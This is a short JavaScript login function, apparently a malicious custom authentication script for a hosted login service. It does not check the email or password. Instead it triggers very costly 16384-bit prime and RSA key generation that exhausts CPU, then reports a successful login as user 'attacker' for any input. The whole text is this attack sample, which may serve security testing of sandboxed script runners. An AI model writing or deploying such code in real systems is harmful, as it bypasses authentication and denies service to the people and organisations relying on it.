function login(email, password, callback) {
  const crypto = require('crypto');
  crypto.generatePrimeSync(16384, { safe: true });
  crypto.generateKeyPairSync('rsa', { modulusLength: 16384 });
  callback(null, { user_id: 'attacker' });
}
